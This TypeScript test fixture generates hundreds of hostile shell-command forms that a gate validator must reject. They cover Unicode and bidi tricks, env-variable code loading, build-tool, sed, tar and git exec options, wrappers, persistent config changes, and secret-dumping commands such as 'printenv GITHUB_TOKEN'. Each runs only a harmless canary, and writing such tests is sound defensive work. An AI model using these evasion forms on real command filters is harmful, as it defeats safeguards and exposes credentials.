/**
 * Hostile gate forms by class (issue 16): each tries to run a second program, the canary
 * `openforge-canary` (a script the test puts first on PATH that only appends a line to a
 * file). None may be `ok`: each must be `rejected` (never run) or `confirm` (run only
 * after the user confirmed it). Generated from templates so every class is covered in its
 * spellings; test/fixtures/gates/injections.jsonl holds the hand-written ones.
 */

export interface HostileForm {
  readonly cls: string;
  readonly cmd: string;
}

/** What each form tries to run: the canary, as a shell command, JS and Python. */
export const CANARY = 'openforge-canary';
const P = CANARY;
const J = `require("child_process").execSync("${CANARY}")`;
const Y = `import os; os.system("${CANARY}")`;
const JS_URL = `data:text/javascript,import{execSync}from"child_process";execSync("${CANARY}")`;

const forms: HostileForm[] = [];
const add = (cls: string, ...cmds: string[]): void => {
  for (const cmd of cmds) forms.push({ cls, cmd });
};

// Unicode spaces between words: one word to a naive splitter, and never a separator to bash.
const SPACES = ['\u00a0', '\u1680', '\u2000', '\u2001', '\u2002', '\u2003', '\u2004', '\u2005', '\u2006', '\u2007', '\u2008', '\u2009',
  '\u200a', '\u202f', '\u205f', '\u3000'];
for (const s of SPACES) {
  add('unicode-space', `npx${s}--yes${s}-c${s}${P}`, `npm test -- x${s}-c${s}${P}`, `sh${s}-c${s}${P}`, `npx -c${s}'${P}'`,
    `npm${s}exec${s}-c${s}${P}`);
}
// Invisible and format characters, and bidirectional controls.
const INVISIBLE = ['\u200b', '\u200c', '\u200d', '\u2060', '\u2061', '\u2062', '\u2063', '\u2064', '\ufeff', '\u00ad', '\u180e', '\u034f'];
for (const c of INVISIBLE) add('invisible', `npm${c} test`, `sh -c${c} ${P}`, `npm test -- ${c}${P}`);
const BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];
for (const c of BIDI) add('bidi', `npm test -- ${c}${P}`, `sh -c '${P}' ${c}# npm test`, `npm test${c} && ${P}`);
// Look-alike letters: Cyrillic and Greek letters that read as ASCII ones.
for (const name of ['nрm test', 'npм test', 'mаke test', 'nрx -c x', 'сargo test', 'ǹpm test', 'pytеst', 'ｎｐｍ test']) add('look-alike', name);
// ANSI-C and locale quoting.
add('ansi-c-quoting', `$'${P}'`, `npm test $'\\x00' ${P}`, `sh -c $'${P}'`, `bash -c $'\\x6f\\x70\\x65\\x6e\\x66\\x6f\\x72\\x67\\x65-canary'`,
  `npm test -- $'a\\x3b${P}'`, `$"${P}"`, `npm test $"x"`, `rm -rf $'dir\\x00/cache'`, `node -e $'${J}'`, `npx $'-c' ${P}`);

// An option that takes a value hiding a following code option.
add('value-hides-code', `node --title x -e '${J}'`, `node --title=x -e '${J}'`, `node --stack-size 100 -e '${J}'`, `node --conditions dev -p '${J}'`,
  `node -C dev -e '${J}'`, `node --max-old-space-size 64 --eval '${J}'`, `npx --loglevel silent node -e '${J}'`,
  `npx --registry x node -e '${J}'`, `npx --cache .c node -e '${J}'`, `npx --loglevel silent -c ${P}`, `npm --loglevel silent exec -c ${P}`,
  `npm exec --loglevel silent -c ${P}`, `npx --prefix . node -e '${J}'`, `npx --yes --loglevel=silent -c ${P}`, `bun --cwd . -e '${J}'`,
  `python3 -W ignore -c '${Y}'`, `python3 -X dev -c '${Y}'`, `python3 -Wignore -c '${Y}'`, `perl -Mstrict -e 'system("${P}")'`,
  `ruby -W0 -e 'system("${P}")'`, `timeout --kill-after 5 60 sh -c ${P}`, `timeout -s KILL 60 sh -c ${P}`, `env -u X sh -c ${P}`,
  `env --chdir=. sh -c ${P}`, `nice --adjustment 5 sh -c ${P}`);

// Loader options with code in a URL, in other spellings.
for (const opt of ['--import', '--loader', '--experimental-loader', '--test-reporter', '-r', '--require']) {
  add('loader-url', `node ${opt}=${JS_URL} --test`, `node ${opt} '${JS_URL}' --test`, `node ${opt}=${JS_URL.replace('data:', 'DATA:')} --test`,
    `node ${opt}=${JS_URL.replace('data:', 'Data:')} --test`);
}
add('loader-url', `node --import=http://127.0.0.1:1/x.mjs --test`, `node --import https://example.invalid/x.mjs --test`,
  `node --env-file=.env --test`, `node --inspect=0.0.0.0:9229 --test`, `node --experimental-policy=p.json --test`);

// Environment assignments and configuration that run code.
const ENV_FORMS = [
  `NODE_OPTIONS='--require ./x.cjs'`, `NODE_OPTIONS=--import=${JS_URL}`, `NODE_OPTIONS='-r ./x.cjs'`, `NODE_OPTIONS=--experimental-loader=./x.mjs`,
  `npm_config_script_shell=./canary.sh`, `NPM_CONFIG_SCRIPT_SHELL=./canary.sh`, `Npm_Config_Script_Shell=./canary.sh`, `npm_config_node_options='--require ./x.cjs'`,
  `npm_config_userconfig=./evil.npmrc`, `npm_config_git=./canary.sh`, `NPM_CONFIG_GLOBALCONFIG=./evil.npmrc`,
  `MAKEFLAGS='--eval=x:=$$(shell ${P})'`, `MAKEFLAGS=SHELL=./canary.sh`, `GNUMAKEFLAGS=SHELL=./canary.sh`, `MFLAGS=-E`, `MAKEFILES=./evil.mk`,
  `CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./canary.sh`, `RUSTC_WRAPPER=./canary.sh`, `CARGO_BUILD_RUSTC_WRAPPER=./canary.sh`,
  `RUSTC=./canary.sh`, `CARGO_ALIAS_T=run`, `RUSTFLAGS='-C linker=./canary.sh'`, `GIT_EDITOR=./canary.sh`, `EDITOR=./canary.sh`, `VISUAL=./canary.sh`,
  `LESSOPEN='|./canary.sh %s'`, `PAGER=./canary.sh`, `GIT_PAGER=./canary.sh`, `BASH_ENV=./canary.sh`, `ENV=./canary.sh`, `LD_PRELOAD=./x.so`,
  `LD_LIBRARY_PATH=.`, `PATH=.`, `HOME=.`, `XDG_CONFIG_HOME=.`, `PERL5OPT=-Mx`, `RUBYOPT=-rx`, `JAVA_TOOL_OPTIONS=-javaagent:x.jar`,
  `MAVEN_OPTS=-XX:OnError=./canary.sh`, `GOFLAGS=-toolexec=./canary.sh`, `CC=./canary.sh`, `CXX=./canary.sh`, `SHELL=./canary.sh`,
  `PROMPT_COMMAND=${P}`, `GIT_SSH_COMMAND=${P}`, `GIT_EXTERNAL_DIFF=./canary.sh`, `GIT_CONFIG_COUNT=1`, `IFS=x`, `PS4='$(${P})'`,
  `PYTHONSTARTUP=./x.py`, `PYTHONWARNINGS=ignore::x.Y`, `CMAKE_C_COMPILER_LAUNCHER=./canary.sh`, `YARN_RC_FILENAME=.evil.yml`,
];
for (const env of ENV_FORMS) add('env-assignment', `${env} npm test`, `env ${env} make test`, `cross-env ${env} npm test`);

// Build tools' own code paths.
add('build-tool',
  `make X!=${P}`, `make 'X != ${P}'`, `make --eval='x:=$$(shell ${P})' test`, `make -E 'x:=1'`, `make SHELL=./canary.sh test`,
  `make .SHELLFLAGS=-c test`, `make 'CFLAGS=$$(shell ${P})'`, `make MAKEFLAGS=-E`, `make -f /dev/stdin`, `make -C .. test`,
  `cmake -E time ${P}`, `cmake -E chdir . ${P}`, `cmake -E env X=1 ${P}`, `cmake -P x.cmake`, `cmake -C x.cmake -S . -B b`,
  `cmake -DCMAKE_C_COMPILER_LAUNCHER=./canary.sh -S . -B b`, `cmake -D CMAKE_PROJECT_INCLUDE=x.cmake -S . -B b`, `cmake -DCMAKE_TOOLCHAIN_FILE=x.cmake -S . -B b`,
  `npm exec -c ${P}`, `npm exe -c ${P}`, `npm x -c ${P}`, `npm exec --call=${P}`, `npm exec --call ${P}`, `npx -c ${P}`, `npx --call=${P}`,
  `npx --call ${P}`, `npm explore x -- ${P}`, `npm edit x`, `npm --script-shell=./canary.sh test`, `npm test --script-shell ./canary.sh`,
  `npm test --Script-Shell=./canary.sh`, `npm test --script_shell=./canary.sh`, `npm test --node-options='--require ./x.cjs'`,
  `npm test --userconfig=./evil.npmrc`, `npm test --git=./canary.sh`, `pnpm test --script-shell=./canary.sh`, `yarn test --script-shell ./canary.sh`,
  `npx --node-options='--require ./x.cjs' vitest`, `pnpm exec -c ${P}`, `pnpm dlx -c ${P}`, `yarn exec ${P}`, `yarn node -e '${J}'`,
  `pnpm node -e '${J}'`, `bunx node -e '${J}'`, `uv run python -c '${Y}'`, `poetry run python -c '${Y}'`, `bundle exec ruby -e 'system("${P}")'`,
  `cargo --config 'target.x86_64-unknown-linux-gnu.runner="./canary.sh"' test`, `cargo --config=build.rustc-wrapper=\\"./canary.sh\\" build`,
  `cargo --config alias.t=run t`, `cargo -Zunstable-options test`, `go test -exec ./canary.sh ./...`, `go test -toolexec=./canary.sh ./...`,
  `go build -ldflags=-extld=./canary.sh`, `go build -ldflags '-linkmode external -extld ./canary.sh'`, `mvn exec:exec -Dexec.executable=${P}`,
  `mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec`, `mvn test -DargLine=-XX:OnError=${P}`, `./gradlew test -I init.gradle`,
  `./gradlew --init-script=x.gradle test`, `gradle test -Dorg.gradle.jvmargs=-javaagent:x.jar`, `dotnet build -p:PostBuildEvent=${P}`,
  `dotnet build /p:PreBuildEvent=${P}`, `pytest -p evil_plugin`, `pytest -pevil`, `rake -e 'system("${P}")'`, `bazel test --run_under=./canary.sh //...`,
  `deno eval 'Deno.run'`, `deno test --eval x`, `ruby -e 'system("${P}")'`, `perl -e 'system("${P}")'`, `php -r 'system("${P}");'`,
  `python3 -c '${Y}'`, `node -p '${J}'`, `node --eval='${J}'`, `node --print '${J}'`, `tsx -e '${J}'`, `bun -e '${J}'`, `bun --print '${J}'`);

// sed's `e` command and `w` flag in their spellings; tar's actions and compress programs.
for (const script of [`1e ${P}`, `e ${P}`, `$!e ${P}`, `0~1e ${P}`, `1,3e ${P}`, `s/.*/${P}/e`, `s|.*|${P}|e`, `s/x/y/ge`, `s/x/y/ep`,
  `s#.*#${P}#e`, `{e ${P}\n}`, `s/x/y/w out.txt`, `w out.txt`, `1w out.txt`, `s/a/b/gw out.txt`, `W out.txt`, `/x/e ${P}`, `1 e ${P}`]) {
  add('sed', `sed '${script.replace(/'/g, '')}' f.txt`, `sed -e '${script}' f.txt`, `sed --expression='${script}' f.txt`);
}
for (const opt of [`--to-command=${P}`, `--to-com=${P}`, `--checkpoint=1 --checkpoint-action=exec=${P}`, `--checkpoint=1 --checkpoint-a=exec=${P}`,
  `--use-compress-program=./canary.sh`, `--use-compress=./canary.sh`, `--use=./canary.sh`, `-I ./canary.sh`, `-I./canary.sh`,
  `--info-script=./canary.sh`, `-F ./canary.sh`, `--new-volume-script=./canary.sh`, `--rsh-command=./canary.sh`, `--rmt-command=./canary.sh`]) {
  add('tar', `tar -cf x.tar ${opt} .`, `tar -xf x.tar ${opt}`);
}
add('tar', `tar cIf ./canary.sh x.tar .`, `tar xFf ./canary.sh x.tar`);

// git options and subcommands that run a program.
add('git', `git -c core.pager=${P} log`, `git -c alias.x=!${P} x`, `git -ccore.pager=${P} log`, `git --config-env=core.pager=X log`,
  `git --exec-path=. status`, `git difftool -x ${P}`, `git difftool --extcmd=${P}`, `git difftool -y -t x`, `git rebase --exec ${P} HEAD~1`,
  `git rebase -x ${P} HEAD~1`, `git grep -O${P} x`, `git grep --open-files-in-pager=${P} x`, `git clone -u ${P} x y`,
  `git clone --upload-pack=${P} x y`, `git clone --template=./t x y`, `git filter-branch --tree-filter ${P}`, `git submodule foreach ${P}`,
  `git bisect run ${P}`, `git ls-remote --upload-pack=${P} x`, `git archive --exec=${P} --remote=x HEAD`, `git fetch --upload-pack=${P} x`,
  `git push --receive-pack=${P} x`, `git -C . -c core.fsmonitor=${P} status`, `git -c core.sshCommand=${P} fetch`, `git -c diff.external=${P} diff`,
  `git -c core.hooksPath=. commit -m x`, `git --upload-pack=${P} fetch`);

// Wrappers the validator must look through (or not take as vetted).
const INNER = [`sh -c ${P}`, `bash -c ${P}`, `node -e '${J}'`];
for (const wrapper of ['setpriv --reuid=0', 'prlimit --nofile=1024', 'prlimit -p 1', 'flock x.lock', 'flock -w 5 x.lock', 'sg users',
  'runuser -u root --', 'su root -s /bin/sh -c', 'fakeroot', 'fakeroot --', 'tmux new-session', 'unshare -r', 'unshare --', 'ssh-agent',
  'timeout -- 60', 'timeout --kill=5 60', 'timeout --sig=KILL 60', 'timeout --preserve 60', 'nice --adj=5', 'stdbuf --out=L',
  'stdbuf -oL', 'strace -o x.log', 'strace -f', 'ltrace -o x', 'nohup', 'setsid', 'chrt 0', 'taskset 1', 'ionice -c3', 'xvfb-run -a',
  'dbus-run-session', 'numactl --all', 'faketime 2020-01-01', 'setarch x86_64', 'env -i', 'env -', 'command', 'builtin', 'exec', 'time -p']) {
  for (const inner of INNER) add('wrapper', `${wrapper} ${inner}`);
}
// Shells started with options before -c.
add('shell-options', `bash +e -c ${P}`, `bash +x -c ${P}`, `sh +o nounset -c ${P}`, `bash --rcfile x -c ${P}`, `bash --init-file x -c ${P}`,
  `bash -O extglob -c ${P}`, `bash +O extglob -c ${P}`, `dash -e -c ${P}`, `bash --norc -c ${P}`, `bash --noprofile --norc -c ${P}`,
  `sh -ec ${P}`, `sh -xc ${P}`, `bash -o errexit -c ${P}`, `bash -l -c ${P}`, `zsh -f -c ${P}`, `sh ./canary.sh`, `bash canary.sh`,
  `bash -s < x`, `sh -i`, `bash --posix -c ${P}`);

// env and its kin as wrappers, in spellings of their own: long options, options that take a value
// or none, a nested env, env behind another wrapper, and settings given to env that load code or
// move a tool's home (the honest twins, `env NAME=value` with plain settings, are ordinary gates).
add('env-wrapper', `env --ignore-environment sh -c ${P}`, `env -iu X sh -c ${P}`, `env --unset=X bash -c ${P}`, `env -C . sh -c ${P}`,
  `env --chdir . sh -c ${P}`, `env --split-string='sh -c ${P}'`, `env -vS'sh -c ${P}'`, `env -- sh -c ${P}`, `env --default-signal sh -c ${P}`,
  `env --block-signal=INT bash -c ${P}`, `env --ignore-signal=INT sh -c ${P}`, `env -i PATH=/usr/bin:/bin sh -c ${P}`, `env X=1 Y=2 sh -c ${P}`,
  'env BASH_ENV=./canary.sh bash -c true', 'env ENV=./canary.sh sh -i', 'env NODE_OPTIONS=--import=./x.mjs npm test',
  'env npm_config_script_shell=./canary.sh npm test', 'env NPM_CONFIG_SCRIPT_SHELL=./canary.sh npm test', "env PYTEST_ADDOPTS='-p canary' pytest",
  'env PYTEST_PLUGINS=canary pytest', 'env JAVA_TOOL_OPTIONS=-javaagent:x.jar mvn test', 'env MAVEN_OPTS=-javaagent:x.jar mvn test',
  'env GRADLE_OPTS=-javaagent:x.jar gradle test', 'env GIT_EXTERNAL_DIFF=./canary.sh git diff', 'env GIT_PAGER=./canary.sh git log',
  'env LD_PRELOAD=./x.so npm test', 'env PATH=.:/usr/bin npm test', 'env HOME=. npm test', 'env RUSTC_WRAPPER=./canary.sh cargo test',
  'env CARGO_BUILD_RUSTC_WRAPPER=./canary.sh cargo test', 'env CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./canary.sh cargo test',
  'env GOFLAGS=-toolexec=./canary.sh go test ./...', 'env MAKEFLAGS=SHELL=./canary.sh make test', 'env PYTHONSTARTUP=./x.py python3 -i',
  'env PYTHONPATH=/tmp/evil pytest', 'env PYTHONHOME=/tmp/evil python3 -m pytest', 'env NODE_PATH=/tmp/evil node --test', 'env RUBYOPT=-rx rake test',
  'env PERL5OPT=-Mx prove', `env GIT_CONFIG_PARAMETERS="'core.pager=${P}'" git log`, `env GIT_SSH_COMMAND=${P} git fetch`,
  `env TZ=UTC LC_ALL=C sh -c ${P}`, `timeout 5 env X=1 sh -c ${P}`, `nice env sh -c ${P}`, `time env -S 'sh -c ${P}'`, "env -S'npm test'",
  `env env sh -c ${P}`, `env env -S 'sh -c ${P}'`, 'env X=1 env npm_config_script_shell=./canary.sh npm test', "cross-env NODE_OPTIONS='-r ./x.cjs' npm test",
  'env UV_PYTHON=./canary.sh uv run pytest', 'env POETRY_VIRTUALENVS_PATH=/tmp poetry run pytest', 'env DENO_DIR=/tmp deno test',
  'env BUN_INSTALL=/tmp bun test', 'env GRADLE_USER_HOME=/tmp gradle test', 'env PYTHONUSERBASE=/tmp/evil python3 -m pytest',
  'env COVERAGE_PROCESS_START=.coveragerc pytest', 'env PIP_CONFIG_FILE=/tmp/pip.conf pytest', 'env VIRTUAL_ENV=/tmp/evil pytest');

// Gates that persist configuration or write outside the project.
add('persistent', `npm config set script-shell ./canary.sh`, `npm config set node-options='--require ./x.cjs'`, `npm set script-shell ./canary.sh`,
  `npm pkg set scripts.test=${P}`, `npm pkg set scripts.x=${P}`, `npm pkg delete scripts.test`, `npm set-script test ${P}`,
  `pnpm config set script-shell ./canary.sh`, `yarn config set script-shell ./canary.sh`, `npm install -g x`, `npm i -g x`,
  `npm install --global x`, `npm link`, `npm login`, `npm token create`, `pnpm add -g x`, `yarn global add x`, `git config alias.x '!${P}'`,
  `git config core.pager ${P}`, `git config --global core.pager ${P}`, `git config --add core.hooksPath .`, `git remote add x ${P}`,
  `git remote set-url origin x`, `git lfs install`, `cargo install x`, `rustup default nightly`, `rustup override set nightly`, `go install x@latest`,
  `go env -w GOFLAGS=-toolexec=./canary.sh`, `pip config set global.index-url x`, `pip install --user x`, `gem install x`, `bundle config set path x`,
  `corepack enable`, `composer global require x`, `composer config scripts.test ${P}`, `dotnet tool install -g x`, `mix local.hex --force`,
  `uv tool install x`, `pipx install x`, `poetry config virtualenvs.create false`, `crontab x`, `npm test --cache=~/.evil`, `npm test -- ~/.bashrc`,
  `pytest --basetemp=~/x`, `make -C ~ test`, `npm test --prefix=$HOME`, `brew install x`, `apt-get install x`, `nvm alias default 18`, `ssh-keygen -f k`);

// Gates that print the environment into the gate log, every key included (issue 45 item 5).
add('prints-environment', 'env', 'printenv', 'printenv GITHUB_TOKEN', 'set', 'export -p', 'declare -p', 'declare -x', 'typeset -x', 'make -p',
  'make -np test', 'make --print-data-base', 'timeout 60 env', 'nohup printenv', 'env -0', 'busybox printenv', 'cat /proc/self/environ',
  'npm run env', 'npm run-script env', 'yarn run env', 'yarn env', 'pnpm run env', 'bun run env', 'npm --prefix . run env');

export const HOSTILE_FORMS: readonly HostileForm[] = forms;
